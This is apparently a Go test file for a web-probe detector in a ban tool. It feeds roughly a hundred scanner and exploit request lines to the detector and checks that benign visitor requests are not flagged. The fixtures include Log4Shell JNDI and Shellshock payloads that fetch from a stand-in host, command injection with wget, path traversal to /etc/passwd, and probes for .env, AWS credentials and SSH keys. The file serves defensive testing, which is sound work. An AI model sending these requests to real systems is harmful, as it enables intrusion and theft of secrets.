package recall_test

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"banmesh/internal/ban"
	"banmesh/internal/detect"
	"banmesh/topics"
)

// probes are requests of scanners, one of each kind, as "STATUS METHOD URI",
// with the agent behind a tab where the agent gives them away. The forms are
// those of the advisories that the topic's sets name.
const probes = `
404 GET /.env
404 GET /api/.env.production
403 GET /.git/config
404 GET /.aws/credentials
404 GET /.ssh/id_ed25519
404 GET /.svn/entries
404 GET /.DS_Store
404 GET /wp-config.php.bak
404 GET /config.inc.php
404 GET /actuator/env
404 GET /server-status
404 GET /phpinfo.php
404 GET /backup.sql
404 GET /docker-compose.yml
404 GET /terraform.tfstate
404 GET /.vscode/sftp.json
404 GET /_profiler/phpinfo
404 GET /wp-login.php
404 GET /wp-admin/setup-config.php
404 GET //wp2/wp-includes/wlwmanifest.xml
404 GET /phpMyAdmin-5.1/index.php?lang=en
404 GET /pma/index.php
404 GET /adminer.php
404 GET /administrator/index.php
404 GET /cgi-bin/tools/tools.pl
404 GET /owa/auth/logon.aspx
404 GET /manager/html
404 GET /alfacgiapi/perl.alfa
404 POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php
200 GET /index.php?s=/index/\think\app/invokefunction&function=call_user_func_array&vars[0]=md5
404 POST /boaform/admin/formLogin
404 GET /HNAP1/
404 GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=id
404 POST /GponForm/diag_Form?images/
404 GET /shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.9/x
404 POST /cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh
400 GET /icons/.%%32%65/.%%32%65/.%%32%65/etc/passwd
404 GET /public/plugins/alertlist/../../../../../../etc/passwd
404 GET /remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession
404 GET /dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/
404 GET /+CSCOE+/logon.html
404 GET /tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd
404 GET /vpn/../vpns/cfg/smb.conf
404 GET /global-protect/login.esp
404 GET /php/ztp_gate.php/.js.map
404 GET /ui/vropspluginui/rest/services/uploadova
404 GET /catalog-portal/ui/oauth/verify?error=&deviceUdid=%24%7b%22freemarker.template.utility.Execute%22%3fnew%28%29%28%22id%22%29%7d
404 GET /%24%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%28%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%29%7D/
404 GET /setup/setupadministrator.action
404 POST /json/setup-restore.action?synchronous=true
404 GET /s/cfx/_/;/WEB-INF/web.xml
404 GET /autodiscover/autodiscover.json?@example.org/owa/?&Email=autodiscover/autodiscover.json%3F@example.org
404 POST /ecp/y.js
404 POST /mboximport?account-name=admin
404 POST /service/extension/backup/mboximport?account-name=admin&ow=2&no-switch=1
404 GET /vendor/htmlawed/htmlawed/htmLawedTest.php
404 POST /login/index.php?login=$(echo${IFS}id)
404 GET /remote_agent.php?action=polldata&poller_id=;id
404 GET /apps/graphapi/vendor/microsoft/microsoft-graph/tests/GetPhpInfo.php/.css
404 GET /solr/admin/info/system
404 POST /_ignition/execute-solution
404 POST /wls-wsat/CoordinatorPortType
404 GET /console/css/%252e%252e%252fconsole.portal
404 GET /Telerik.Web.UI.WebResource.axd?type=rau
404 POST /api/jsonws/invoke
404 GET /struts2-showcase/index.action
404 GET /jmx-console/
404 GET /nacos/v1/auth/users?pageNo=1
404 GET /geoserver/web/
404 GET /cgi-bin/luci/;stok=/locale
404 GET /picsdesc.xml
404 POST /cgi-bin/account_mgr.cgi?cmd=cgi_user_add&name=';id;'
404 GET /human.aspx
404 GET /SetupWizard.aspx/x
404 GET /CFIDE/administrator/
404 GET /securityRealm/user/admin/descriptorByName/x
200 GET /?x=${jndi:ldap://192.0.2.9/a}
200 GET /?id=%24%7bscript%3ajavascript%3ajava.lang.Runtime%7d
200 GET /?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x
200 GET /download?file=..%2f..%2f..%2f..%2fetc%2fpasswd
200 GET /hello.world?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input
200 GET /index.php?page=php://filter/convert.base64-encode/resource=index
404 GET /stats.php?root=http://cirt.net/rfiinc.txt?
200 GET /item?id=-1+UNION+ALL+SELECT+1,2,3--
200 GET /item?id=1'%20AND%20SLEEP(5)%20--
200 GET /q?s=<script>alert(1)</script>
405 CONNECT example.org:443
404 GET http://example.org/
405 TRACE /
200 GET /	Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)
200 GET /	sqlmap/1.7.2#stable (https://sqlmap.org)
200 GET /	Mozilla/5.0 zgrab/0.x
200 GET /	masscan/1.3 (https://github.com/robertdavidgraham/masscan)
200 GET /	Nuclei - Open-source project (github.com/projectdiscovery/nuclei)
200 GET /	WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)
200 GET /	gobuster/3.6
200 GET /	Fuzz Faster U Fool v2.1.0
200 GET /	() { :;}; /bin/bash -c "wget http://192.0.2.9/x"
200 GET /	${jndi:ldap://192.0.2.9/a}
404 GET /nmaplowercheck1700000000
404 GET /w00tw00t.at.blackhats.romanian.anti-sec:)
404 GET /index.jsp
404 GET /old/shop.php?id=4
404 GET /
`

// honest are requests of visitors, their browsers, monitors and crawlers.
const honest = `
200 GET /
200 GET /?utm_source=x&next=https%3A%2F%2Fexample.org%2Faccount
304 GET /assets/app.js
404 GET /favicon.ico
404 GET /apple-touch-icon-precomposed.png
404 GET /robots.txt
404 GET /.well-known/assetlinks.json
200 GET /wp-login.php
200 POST /wp-admin/admin-ajax.php
200 GET /phpmyadmin/index.php
200 GET /search?q=how+to+select+a+union
200 GET /search?q=%2Fetc%2Fhosts
200 GET /search?q=.env
401 GET /api/me
403 POST /api/comments
200 GET /repo/src/branch/main/docker-compose.yml
200 GET /docs/environment.html
200 GET /owa/auth/logon.aspx
200 GET /remote.php/dav/files/me/
200 PROPFIND /remote.php/dav/files/me/
200 OPTIONS /api
206 GET /video.mp4
301 GET /old%20page
200 GET /bücher
200 GET /a%2Fb
499 GET /slow
502 GET /
200 GET /	Googlebot/2.1 (+http://www.google.com/bot.html)
200 GET /	curl/8.5.0
200 GET /	python-requests/2.31
200 GET /	UptimeRobot/2.0
`

func TestProbesAreFoundAndVisitorsAreNot(t *testing.T) {
	t.Parallel()
	var probe *topics.Definition
	for _, d := range topics.Builtin() {
		if d.Name == "web-probe" {
			probe = d
		}
	}
	sampler, err := detect.NewSampler(probe, time.Now())
	if err != nil {
		t.Fatal(err)
	}
	all, found := 0, 0
	for line := range strings.Lines(strings.TrimSpace(probes)) {
		all++
		switch got := sampler.Find(topics.Sample{Line: accessLine(line)}); {
		case got.Target.String() != "192.0.2.1":
			t.Errorf("missed: %s", line)
		case got.Class != ban.ClassScanWeak:
			found++
		default:
			t.Logf("weak: %s", line)
		}
	}
	fmt.Printf("figure recall-web-probe %d lines aim %d\n", found, all)
	if least := 101; found < least {
		t.Errorf("%d of %d probes are offences that no visitor commits, want at least %d", found, all, least)
	}
	for line := range strings.Lines(strings.TrimSpace(honest)) {
		if got := sampler.Find(topics.Sample{Line: accessLine(line)}); !got.Target.IsZero() {
			t.Errorf("a visitor's request is an offence (%s): %s", got.Class, line)
		}
	}
}

// accessLine makes "STATUS METHOD URI" and an agent a line of an access log.
func accessLine(s string) string {
	request, agent, ok := strings.Cut(strings.TrimSpace(s), "\t")
	if !ok {
		agent = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
	}
	status, request, _ := strings.Cut(request, " ")
	return fmt.Sprintf("192.0.2.1 - - [21/Nov/2026:09:14:02 +0000] \"%s HTTP/1.1\" %s 153 \"-\" %s", strings.ReplaceAll(request, `"`, `\x22`), status, `"`+strings.ReplaceAll(agent, `"`, `\x22`)+`"`)
}
